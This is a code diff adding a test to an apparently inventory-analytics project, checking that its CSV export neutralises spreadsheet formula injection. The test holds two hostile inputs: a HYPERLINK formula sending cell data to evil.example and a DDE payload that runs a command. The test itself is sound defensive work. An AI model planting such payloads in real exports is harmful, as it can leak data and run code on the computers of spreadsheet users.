@@ -73,3 +73,33 @@ def test_importing_the_library_imports_no_web_framework() -> None:
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          cwd=ROOT, check=True)
     assert out.stdout.strip() == "[]"
+
+
+HOSTILE = {"sku": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+           "product_name": "+cmd|' /C calc'!A0"}
+
+
+def test_the_drivers_csv_hands_no_formula_to_a_spreadsheet(
+        scored_demo: tuple[Settings, Path]) -> None:
+    """A SKU and a product name that a spreadsheet would run as formulas come back as
+    text (a leading '); numbers stay numbers."""
+    settings, _ = scored_demo
+    import csv as csvlib
+
+    from ipi import pipeline
+    from ipi.api import Rows
+
+    top = Rows(settings).drivers(account="acme", marketplace="US", n=1)[0]["sku"]
+    with pipeline.open_store(settings).write() as con:
+        for table in ("fba_inventory_planning", "fba_myi_inventory", "stranded_inventory"):
+            con.execute(f"UPDATE {table} SET sku = ?, product_name = ? WHERE sku = ?",
+                        [HOSTILE["sku"], HOSTILE["product_name"], top])
+    with _client(settings) as client:
+        got = client.get("/accounts/acme/drivers.csv?marketplace=US")
+    assert got.status_code == 200
+    rows = list(csvlib.DictReader(got.text.splitlines()))
+    row = next(r for r in rows if "HYPERLINK" in r["sku"])
+    assert row["sku"] == "'" + HOSTILE["sku"]
+    assert row["name"] == "'" + HOSTILE["product_name"]
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    assert [float(r["gain"]) for r in rows if r["gain"]]  # numbers, negative ones too, as they were
